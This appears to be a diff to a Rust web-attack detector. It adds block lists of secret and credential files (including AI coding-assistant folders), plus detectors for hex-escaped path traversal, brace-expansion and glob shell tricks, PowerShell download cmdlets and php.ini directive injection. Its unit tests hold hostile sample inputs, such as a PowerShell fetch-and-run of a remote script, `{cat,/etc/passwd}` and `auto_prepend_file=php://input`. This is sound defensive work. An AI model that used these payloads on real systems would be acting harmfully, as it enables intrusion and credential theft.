@@ -83,6 +83,130 @@ const SENSITIVE_FILES: &[&str] = &[
     "/bin/",
 ];
 
+/// Entries of [`SENSITIVE_FILES`] that name an OS secret or state file
+/// wherever they appear in a value: no ordinary form field holds them.
+const UNAMBIGUOUS_FILES: &[&str] = &[
+    "etc/passwd",
+    "etc/shadow",
+    "etc/gshadow",
+    "etc/master.passwd",
+    "etc/sudoers",
+    "proc/self/",
+    "proc/sys/",
+    "proc/net/",
+    "sys/class/",
+    "sys/kernel/",
+    ".ssh/",
+    "id_rsa",
+    "id_dsa",
+    "id_ecdsa",
+    "id_ed25519",
+    "authorized_keys",
+    ".bash_history",
+    ".mysql_history",
+    ".aws/credentials",
+    ".git-credentials",
+    ".kube/config",
+    ".docker/config.json",
+    "var/run/secrets/",
+    "win.ini",
+    "boot.ini",
+    "windows/system32",
+    "winnt/system32",
+    ".htpasswd",
+    "wp-config.php",
+    "web-inf/",
+];
+
+/// Files a web server must never hand out, named in a request path or a
+/// parameter: secrets and tool state under dot-directories, database dumps,
+/// application logs, process and kernel state. Our list, written from the
+/// files attackers fetch in published incident write-ups; the idea of also
+/// covering AI coding-assistant folders (API keys and agent rules kept next
+/// to the code) comes from CRS's `ai-critical-artifacts.data` (rule 930140).
+/// Matched as substrings of the decoded, lower-cased value.
+const RESTRICTED_FILES: &[&str] = &[
+    "/.env",
+    ".env.local",
+    ".env.production",
+    "/.git/",
+    "/.gitconfig",
+    "/.svn/",
+    "/.hg/",
+    "/.bzr/",
+    "/.aws/",
+    "/.docker/",
+    "/.kube/",
+    "/.npmrc",
+    "/.pypirc",
+    "/.netrc",
+    "/.pgpass",
+    "/.my.cnf",
+    "/.bashrc",
+    "/.zsh_history",
+    "/.history",
+    "/.terraform",
+    "terraform.tfstate",
+    "/.vscode/sftp.json",
+    "/.idea/workspace.xml",
+    "/.ds_store",
+    ".sql.zip",
+    ".sql.gz",
+    ".sql.bz2",
+    ".sql.tar",
+    ".sql.7z",
+    ".sql.bak",
+    "/dump.sql",
+    "/backup.sql",
+    "/database.sql",
+    "/debug.log",
+    "/error.log",
+    "/errors.log",
+    "/error_log",
+    "/access.log",
+    "/access_log",
+    "/laravel.log",
+    "/proc/",
+    "/sys/class",
+    "/sys/kernel",
+    "/sys/devices",
+    // Vite's dev server: `/@fs/<absolute path>` reads any file (CVE-2025-30208).
+    "/@fs/",
+    // AI coding-assistant settings and rules.
+    "/.claude/",
+    "/.cursor/",
+    "/.continue/",
+    "/.aider",
+    "/.roo/",
+    "/.zed/",
+    "/.cline/",
+    "/.kiro/",
+    "/.windsurf/",
+    "/.codex/",
+    "/.opencode/",
+    "/.junie/",
+    "/.gemini/",
+    "/.rovodev/",
+    "/.plandex/",
+    "/.fabric/",
+    "/.n8n/",
+    "/.a0proj/",
+    ".cursorignore",
+    ".aiignore",
+    "/.mcp.json",
+];
+
+static RESTRICTED_AC: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> =
+    std::sync::LazyLock::new(|| ac(RESTRICTED_FILES));
+
+/// A [`RESTRICTED_FILES`] entry in a decoded, lower-cased path or value.
+pub fn restricted(l: &str) -> Option<(f32, &'static str)> {
+    RESTRICTED_AC
+        .as_ref()
+        .is_some_and(|a| a.is_match(l))
+        .then_some((0.6, "restricted file named"))
+}
+
 /// Path probes typical of scanners looking for exposed files or admin panels.
 const PROBE_PATHS: &[&str] = &[
     "/.env",
@@ -946,11 +1070,21 @@ pub fn shell_fold(s: &str) -> String {
 
 /// Path traversal / LFI on a decoded, lower-cased value.
 pub fn traversal(l: &str) -> Option<(f32, &'static str)> {
-    let norm: std::borrow::Cow<'_, str> = if l.contains('\\') {
+    let mut norm: std::borrow::Cow<'_, str> = if l.contains('\\') {
         std::borrow::Cow::Owned(l.replace('\\', "/"))
     } else {
         std::borrow::Cow::Borrowed(l)
     };
+    // `0x2e0x2e0x2f`, `0x5c0x2e.`: dots and slashes written as C-style hex
+    // escapes, which some application decoders (and PHP's `hex2bin`-style
+    // helpers) turn back into bytes.
+    if norm.contains("0x") {
+        norm = std::borrow::Cow::Owned(
+            norm.replace("0x2e", ".")
+                .replace("0x2f", "/")
+                .replace("0x5c", "/"),
+        );
+    }
     let dots = norm.matches("../").count()
         + norm.matches("/..").count() / 2
         + norm.matches("..;/").count();
@@ -979,6 +1113,14 @@ pub fn traversal(l: &str) -> Option<(f32, &'static str)> {
             || norm.ends_with("/.."))
     {
         return Some((0.6, "../ at value start"));
+    }
+    // OS files no ordinary parameter names, relative or absolute
+    // (`path=.ssh/id_rsa`, `x=/sys/class/net`, `f=backup.sql.zip`).
+    if files.iter().any(|f| UNAMBIGUOUS_FILES.contains(f)) {
+        return Some((0.75, "sensitive OS file named"));
+    }
+    if let Some(v) = restricted(&norm) {
+        return Some(v);
     }
     // Names too common in ordinary paths to count alone.
     let strong = files
@@ -1084,6 +1226,14 @@ pub fn url_param(
 ) -> Vec<(crate::detect::web::Class, f32, &'static str)> {
     use crate::detect::web::Class;
     let mut out = Vec::new();
+    // `_conf[path]`, `cfg[include][file]`: PHP reads nested names as arrays;
+    // the innermost key says what the value is used for.
+    let name = name
+        .rsplit('[')
+        .next()
+        .map(|n| n.trim_end_matches(']'))
+        .filter(|n| !n.is_empty())
+        .unwrap_or(name);
     let v = l.trim();
     let Some((scheme, rest)) = v.split_once("://") else {
         return out;
@@ -1196,7 +1346,12 @@ pub fn rce(l: &str) -> Option<(f32, &'static str)> {
     let f = shell_fold(l);
     // A shell function definition (`f(){ f|f& };f`, `:(){ :|:& };:`): name, `()`, `{`, body, `}`.
     // (`function f() {` is JavaScript/PHP syntax: left to the XSS/PHP checks.)
-    if let Some(m) = SHELL_FUNC.as_ref().and_then(|r| r.find(&f))
+    // The regexes below each need a byte or word that most values lack:
+    // test for it first (a value is scanned by a regex only when it can match).
+    if let Some(m) = f
+        .contains('{')
+        .then(|| SHELL_FUNC.as_ref().and_then(|r| r.find(&f)))
+        .flatten()
         && f[m.end()..].contains('}')
         // Its body pipes, backgrounds or chains commands (a fork bomb, a
         // payload), not just `echo hello`.
@@ -1207,16 +1362,42 @@ pub fn rce(l: &str) -> Option<(f32, &'static str)> {
     }
     // cmd.exe control flow: `for [/d|/r …|/l|/f "…"] %%x in (…) do …`,
     // `if [/i] [not] exist|defined|errorlevel …` and `if … ==|equ|neq|lss|gtr … command`.
-    if WIN_FOR.as_ref().is_some_and(|r| r.is_match(&f)) {
+    if f.contains("for") && WIN_FOR.as_ref().is_some_and(|r| r.is_match(&f)) {
         return Some((0.9, "cmd.exe for loop"));
     }
-    if WIN_IF.as_ref().is_some_and(|r| r.is_match(&f)) {
+    if f.contains("if") && WIN_IF.as_ref().is_some_and(|r| r.is_match(&f)) {
         return Some((0.8, "cmd.exe if statement"));
+    }
+    if let Some(v) = brace_expansion(&f) {
+        return Some(v);
+    }
+    if let Some(v) = glob_path(&f) {
+        return Some(v);
+    }
+    // A variable that holds a shell, run with a command: `$SHELL -c id`, `${BASH} -c …`.
+    for v in ["$shell", "${shell}", "$bash", "${bash}", "$0 -c"] {
+        if let Some(i) = f.find(v) {
+            let after = f[i + v.len()..].trim_start();
+            if after.starts_with("-c") || v == "$0 -c" {
+                return Some((0.85, "shell variable run with -c"));
+            }
+        }
+    }
+    // PowerShell: cmdlets and aliases that download or run code.
+    if let Some(v) = powershell(&f) {
+        return Some(v);
     }
     // Command after a separator: ; | || && ` $( newline
     let b = f.as_bytes();
     let seps: &[&str] = &[";", "|", "&", "`", "$(", "\n", "\r", "${", "<(", ">("];
-    for sep in seps {
+    // Every separator starts with one of these bytes.
+    let has_sep = f.bytes().any(|c| {
+        matches!(
+            c,
+            b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'\r' | b'<' | b'>'
+        )
+    });
+    for sep in seps.iter().filter(|_| has_sep) {
         for (i, _) in f.match_indices(sep) {
             let mut rest = f[i + sep.len()..].trim_start_matches(|c: char| {
                 c == '|' || c == '&' || c == ' ' || c == '\t' || c == '{' || c == '('
@@ -1307,6 +1488,213 @@ pub fn rce(l: &str) -> Option<(f32, &'static str)> {
     None
 }
 
+/// Bash brace expansion that spells a command: `{cat,/etc/passwd}` runs
+/// `cat /etc/passwd`; `c{a,oun}t` and `{l,-lh}s` build command words from
+/// pieces. Each `{…,…}` group (no spaces, at most [`MAX_BRACE_ITEMS`] items)
+/// is expanded with the word it is glued to, and a strong command word (or
+/// a known command as the group's first item, followed by an argument)
+/// counts.
+fn brace_expansion(f: &str) -> Option<(f32, &'static str)> {
+    const MAX_BRACE_ITEMS: usize = 8;
+    let mut from = 0;
+    while let Some(o) = f[from..].find('{').map(|o| o + from) {
+        from = o + 1;
+        let Some(c) = f[o..].find('}').map(|c| c + o) else {
+            break;
+        };
+        let inner = &f[o + 1..c];
+        if !inner.contains(',') || inner.contains([' ', '{', '$', '"', ':']) {
+            continue;
+        }
+        let items: Vec<&str> = inner.split(',').collect();
+        if items.len() > MAX_BRACE_ITEMS {
+            continue;
+        }
+        let is_word = |ch: char| ch.is_ascii_alphanumeric() || ch == '_' || ch == '-';
+        let pre_start = f[..o]
+            .char_indices()
+            .rev()
+            .find(|(_, ch)| !is_word(*ch))
+            .map(|(i, ch)| i + ch.len_utf8())
+            .unwrap_or(0);
+        let pre = &f[pre_start..o];
+        let suf_end = f[c + 1..]
+            .char_indices()
+            .find(|(_, ch)| !is_word(*ch))
+            .map(|(i, _)| c + 1 + i)
+            .unwrap_or(f.len());
+        let suf = &f[c + 1..suf_end];
+        // `{cat,/etc/passwd}`: the first item is the program, the rest its arguments.
+        if pre.is_empty()
+            && items.len() >= 2
+            && (is_strong_command(items[0]) && items[1..].iter().any(|a| !a.is_empty())
+                || is_command(items[0]) && items[1..].iter().any(|a| a.starts_with(['-', '/'])))
+        {
+            return Some((0.85, "brace expansion command"));
+        }
+        for it in &items {
+            let word = format!("{pre}{it}{suf}");
+            if word.len() > 1 && is_strong_command(&word) && !it.is_empty() {
+                return Some((0.8, "brace expansion command"));
+            }
+        }
+    }
+    None
+}
+
+/// Paths that a shell glob (`?`, `*`, `[a-z]`, `[!q]`) turns into a shell
+/// or a system file: `/usr/[a-z]in/bash`, `/etc/[!q]asswd`, `/???/c?t`.
+/// Each glob path in the value is matched against [`GLOB_TARGETS`].
+fn glob_path(f: &str) -> Option<(f32, &'static str)> {
+    if !f.contains(['?', '*', '[']) || !f.contains('/') {
+        return None;
+    }
+    for tok in f.split([
+        ' ', '\t', ';', '|', '&', '\'', '"', '(', ')', '`', '<', '>', '=',
+    ]) {
+        if !tok.starts_with('/') || !tok.contains(['?', '*', '[']) || tok.len() > 64 {
+            continue;
+        }
+        if GLOB_TARGETS
+            .iter()
+            .any(|t| glob_match(tok.as_bytes(), t.as_bytes()))
+        {
+            return Some((0.85, "glob path to shell or system file"));
+        }
+    }
+    None
+}
+
+/// What globbed paths in attacks resolve to (shells, fetchers, account files).
+const GLOB_TARGETS: &[&str] = &[
+    "/bin/sh",
+    "/bin/bash",
+    "/bin/dash",
+    "/bin/cat",
+    "/bin/nc",
+    "/usr/bin/bash",
+    "/usr/bin/id",
+    "/usr/bin/whoami",
+    "/usr/bin/wget",
+    "/usr/bin/curl",
+    "/usr/bin/python",
+    "/usr/bin/perl",
+    "/usr/bin/nc",
+    "/usr/bin/cat",
+    "/usr/sbin/bash",
+    "/etc/passwd",
+    "/etc/shadow",
+    "/etc/hosts",
+];
+
+/// Shell-glob match of `pat` (`?`, `*`, `[…]`, `[!…]`, `[^…]` with ranges)
+/// against the whole of `text`. Iterative with one backtrack point for `*`.
+fn glob_match(pat: &[u8], text: &[u8]) -> bool {
+    let (mut p, mut t) = (0, 0);
+    let mut star: Option<(usize, usize)> = None;
+    while t < text.len() {
+        let step = match pat.get(p) {
+            Some(b'*') => {
+                star = Some((p, t));
+                p += 1;
+                continue;
+            }
+            Some(b'?') => Some(p + 1),
+            Some(b'[') => match class_match(&pat[p..], text[t]) {
+                Some((ok, len)) => ok.then_some(p + len),
+                None => (text[t] == b'[').then_some(p + 1),
+            },
+            Some(c) => (*c == text[t]).then_some(p + 1),
+            None => None,
+        };
+        match step {
+            Some(np) => {
+                p = np;
+                t += 1;
+            }
+            None => match star {
+                Some((sp, st)) => {
+                    p = sp + 1;
+                    t = st + 1;
+                    star = Some((sp, st + 1));
+                }
+                None => return false,
+            },
+        }
+    }
+    pat[p..].iter().all(|c| *c == b'*')
+}
+
+/// A `[…]` class at the start of `pat`: (whether `c` matches, the class's length).
+fn class_match(pat: &[u8], c: u8) -> Option<(bool, usize)> {
+    let end = pat.iter().skip(2).position(|x| *x == b']')? + 2;
+    let body = &pat[1..end];
+    let (neg, body) = match body.first() {
+        Some(b'!' | b'^') => (true, &body[1..]),
+        _ => (false, body),
+    };
+    let mut hit = false;
+    let mut i = 0;
+    while i < body.len() {
+        if body.get(i + 1) == Some(&b'-') && i + 2 < body.len() {
+            hit |= (body[i]..=body[i + 2]).contains(&c);
+            i += 3;
+        } else {
+            hit |= body[i] == c;
+            i += 1;
+        }
+    }
+    Some((hit != neg, end + 1))
+}
+
+/// PowerShell cmdlets and aliases that fetch or run code (`iex (iwr …)`,
+/// `Invoke-Expression`, `-EncodedCommand`), as words of a lower-cased value.
+fn powershell(f: &str) -> Option<(f32, &'static str)> {
+    const CMDLETS: &[&str] = &[
+        "invoke-expression",
+        "invoke-webrequest",
+        "invoke-restmethod",
+        "invoke-wmimethod",
+        "invoke-command",
+        "invoke-item",
+        "start-process",
+        "start-bitstransfer",
+        "new-object net.webclient",
+        "new-object system.net.webclient",
+        "downloadstring(",
+        "downloadfile(",
+        "frombase64string(",
+        "set-mppreference",
+        "add-mppreference",
+        "get-wmiobject",
+        "-encodedcommand",
+        "-executionpolicy bypass",
+    ];
+    if CMDLETS.iter().any(|c| f.contains(c)) {
+        return Some((0.85, "PowerShell cmdlet"));
+    }
+    // Short aliases only as a command word followed by a command-line shape:
+    // `;iex (…)`, `iwr http://…`, `iwmi -class …`.
+    let mut from = 0;
+    while let Some(i) = f[from..].find(['i', 's', 'p']).map(|i| i + from) {
+        let word_start = i == 0 || f[..i].ends_with([';', '|', '&', '(', ' ', '\n', '`']);
+        let tail = &f[i..];
+        from = i + 1;
+        if word_start {
+            for a in ["iex", "iwr", "irm", "iwmi", "saps", "pwsh"] {
+                if let Some(after) = tail.strip_prefix(a)
+                    && [" (", " http", " -", " c:", " $"]
+                        .iter()
+                        .any(|p| after.starts_with(p))
+                {
+                    return Some((0.8, "PowerShell alias"));
+                }
+            }
+        }
+    }
+    None
+}
+
 const PHP_FUNCS: &[&str] = &[
     "eval",
     "assert",
@@ -1380,6 +1768,49 @@ const PHP_FUNCS: &[&str] = &[
     "md5",
     "die",
     "exit",
+    // Decoders that unpack hidden payloads, execution and reconnaissance
+    // helpers seen in webshells and PHP exploit chains.
+    "bzdecompress",
+    "zlib_decode",
+    "convert_uudecode",
+    "curl_init",
+    "stream_socket_client",
+    "socket_create",
+    "get_defined_functions",
+    "get_defined_vars",
+    "get_defined_constants",
+    "get_cfg_var",
+    "ini_get_all",
+    "php_uname",
+    "posix_getuid",
+    "posix_geteuid",
+    "posix_getegid",
+    "posix_getgid",
+    "posix_uname",
+    "posix_kill",
+    "posix_setuid",
+    "proc_nice",
+    "proc_terminate",
+    "escapeshellcmd",
+    "register_shutdown_function",
+    "register_tick_function",
+    "forward_static_call",
+    "array_walk",
+    "apache_setenv",
+    "mb_send_mail",
+    "imap_open",
+    "error_log",
+    "file_exists",
+    "is_writable",
+    "fputcsv",
+    "ob_get_contents",
+    "gethostbyname",
+    "disk_free_space",
+    "readlink",
+    "chown",
+    "lchown",
+    "tmpfile",
+    "tempnam",
 ];
 
 static PHP_VAR_CALL: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
@@ -1402,9 +1833,52 @@ static PHP_VARVAR: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLo
 
 /// PHP / code injection on a decoded, lower-cased value.
 pub fn php(l: &str) -> Option<(f32, &'static str)> {
-    if l.contains("<?php") || l.contains("<?=") || (l.contains("<?") && l.contains("?>")) {
+    // `<? … ?>` unless it is an XML declaration or processing instruction (`<?xml …?>`).
+    let pi = l.contains("?>")
+        && l.match_indices("<?")
+            .any(|(i, _)| !l[i + 2..].starts_with("xml"));
+    if l.contains("<?php") || l.contains("<?=") || pi {
         return Some((0.95, "PHP open tag"));
     }
+    // `<? php …`, `<?\tphp`, short open tags followed by a statement (`<? echo …`).
+    for (i, _) in l.match_indices("<?") {
+        let rest = l[i + 2..].trim_start_matches([' ', '\t', '\n', '\r']);
+        let ws = rest.len() < l.len() - i - 2;
+        let word: &str = rest
+            .split(|c: char| !c.is_ascii_alphanumeric() && c != '_')
+            .next()
+            .unwrap_or("");
+        if ws && (word == "php" || PHP_FUNCS.contains(&word) || word == "echo" || word == "print") {
+            return Some((0.85, "PHP open tag"));
+        }
+    }
+    // A php.ini directive set in a value (`auto_prepend_file=…` through
+    // PHP-CGI's `-d`, a `.user.ini` upload or `ini_set` gadgets): our list
+    // of the directives that load code, open files or lift limits.
+    if l.contains('=') {
+        for d in PHP_INI {
+            if let Some(i) = l.find(d)
+                // At the start of the value, of a line or statement, or after `-d`.
+                && (i == 0
+                    || matches!(
+                        l.as_bytes().get(i - 1),
+                        Some(b'\n' | b';' | b'"' | b'\'' | b'&')
+                    )
+                    || l[..i].trim_end().ends_with("-d"))
+                && l[i + d.len()..].trim_start().starts_with('=')
+            {
+                return Some((0.7, "php.ini directive"));
+            }
+        }
+    }
+    // Template and forum tags that run PHP (Smarty `{php}`, BBCode-style `[php]`).
+    for t in ["{php}", "{/php}", "[php]", "[/php]"] {
+        if l.contains(t) {
+            return Some((0.8, "PHP template tag"));
+        }
+    }
+    // Superglobals start with `$`; the settings and wrappers have `_` or `:`.
+    let names = if l.contains(['$', '_', ':']) { 17 } else { 0 };
     for v in [
         "$_get",
         "$_post",
@@ -1423,7 +1897,10 @@ pub fn php(l: &str) -> Option<(f32, &'static str)> {
         "disable_functions",
         "safe_mode",
         "open_basedir",
-    ] {
+    ]
+    .iter()
+    .take(names)
+    {
         if l.contains(v) {
             return Some((0.85, "PHP superglobal or setting"));
         }
@@ -1439,6 +1916,14 @@ pub fn php(l: &str) -> Option<(f32, &'static str)> {
             return Some((0.85, "serialized PHP object"));
         }
     }
+    // `gzuncompress/*x*/(…)`: PHP ignores comments between a name and `(`.
+    let folded;
+    let l = if l.contains("/*") {
+        folded = strip_c_comments(l);
+        folded.as_str()
+    } else {
+        l
+    };
     for (i, _) in l.match_indices('(') {
         let head = &l[..i];
         let head = head.trim_end();
@@ -1459,7 +1944,11 @@ pub fn php(l: &str) -> Option<(f32, &'static str)> {
                 || prev.ends_with("print")
                 || prev.ends_with("return");
             let arg = l[i + 1..].trim_start();
-            let arg_ok = arg.starts_with(['$', '"', '\'', '(', ')', '@', '_'])
+            // A name that is no English word ending the value (`base64_decode(`):
+            // a payload cut short or probed for a filter.
+            let bare = arg.is_empty() && w.contains('_');
+            let arg_ok = bare
+                || arg.starts_with(['$', '"', '\'', '(', ')', '@', '_'])
                 || arg.starts_with(|c: char| c.is_ascii_alphabetic())
                     && (arg.contains('(') || arg.contains(')'));
             if ctx_ok
@@ -1503,6 +1992,52 @@ pub fn php(l: &str) -> Option<(f32, &'static str)> {
         return Some((0.6, "PHP variable function"));
     }
     None
+}
+
+/// php.ini directives that change what code runs or what it may reach
+/// (from the PHP manual's ini list), or tune engine internals only an
+/// attacker sets from a request (`opcache.`, `mbstring.` limits).
+const PHP_INI: &[&str] = &[
+    "allow_url_fopen",
+    "allow_url_include",
+    "auto_prepend_file",
+    "auto_append_file",
+    "open_basedir",
+    "disable_functions",
+    "disable_classes",
+    "extension_dir",
+    "zend_extension",
+    "extension",
+    "include_path",
+    "sendmail_path",
+    "session.save_path",
+    "upload_tmp_dir",
+    "user_ini.filename",
+    "phar.readonly",
+    "short_open_tag",
+    "register_globals",
+    "memory_limit",
+    "max_execution_time",
+    "unserialize_max_depth",
+    "opcache.",
+    "mbstring.",
+    "pcre.backtrack_limit",
+    "pcre.jit",
+];
+
+/// `s` without its `/* … */` comments (an unclosed one runs to the end).
+fn strip_c_comments(s: &str) -> String {
+    let mut out = String::with_capacity(s.len());
+    let mut rest = s;
+    while let Some(i) = rest.find("/*") {
+        out.push_str(&rest[..i]);
+        rest = match rest[i + 2..].find("*/") {
+            Some(j) => &rest[i + 2 + j + 2..],
+            None => "",
+        };
+    }
+    out.push_str(rest);
+    out
 }
 
 /// Log4Shell lookups with nested obfuscation folded: `${lower:j}` → `j`,
@@ -2020,6 +2555,46 @@ mod tests {
         assert!(scanner(Some("sqlmap/1.7"), "/").is_some());
         assert!(scanner(None, "/.git/config").is_some());
         assert!(scanner(Some("mozilla/5.0"), "/index.html").is_none());
+    }
+
+    #[test]
+    fn globs_braces_and_powershell() {
+        assert!(glob_match(b"/usr/[a-z]in/bash", b"/usr/bin/bash"));
+        assert!(glob_match(b"/etc/[!q]asswd", b"/etc/passwd"));
+        assert!(!glob_match(b"/etc/[!p]asswd", b"/etc/passwd"));
+        assert!(glob_match(b"/???/c?t", b"/bin/cat"));
+        assert!(glob_match(b"/e*/pa*", b"/etc/passwd"));
+        assert!(!glob_match(b"/e*/x*", b"/etc/passwd"));
+        assert!(rce("/usr/[a-z]in/bash").is_some());
+        assert!(rce("see /docs/[a-z]/index").is_none());
+        assert!(rce("{cat,/etc/passwd}").is_some());
+        assert!(rce("c{a,oun}t /etc/hosts").is_some());
+        assert!(rce("{\"a\":1,\"b\":2}").is_none());
+        assert!(rce("colors {red,green}").is_none());
+        assert!(rce("$shell -c \"echo hi\"").is_some());
+        assert!(rce(";iex (iwr http://10.0.0.1/x.ps1)").is_some());
+        assert!(rce("invoke-expression -command file.ps1").is_some());
+        assert!(rce("sip (a drink) slowly").is_none());
+    }
+
+    #[test]
+    fn restricted_files_and_php_tags() {
+        assert!(traversal(".ssh/id_rsa").is_some());
+        assert!(traversal("/sys/class").is_some());
+        assert!(traversal("0x2e0x2e0x2f0x2e0x2e0x2fetc0x2fpasswd").is_some());
+        assert!(restricted("/wp-content/debug.log").is_some());
+        assert!(restricted("/.claude/settings.json").is_some());
+        assert!(restricted("/index.php").is_none());
+        assert!(restricted("/environment/overview").is_none());
+        assert!(php("<? php echo \"test\"").is_some());
+        assert!(php("<?xml version=\"1.0\"?><a/>").is_none());
+        assert!(php("[php]echo 'test';[/php]").is_some());
+        assert!(php("gzuncompress/*x*/($a)").is_some());
+        assert!(php("base64_decode(").is_some());
+        assert!(php("please decode(").is_none());
+        assert!(php("auto_prepend_file=php://input").is_some());
+        assert!(php("memory_limit = 512m").is_some());
+        assert!(php("file extension = pdf").is_none());
     }
 }
 
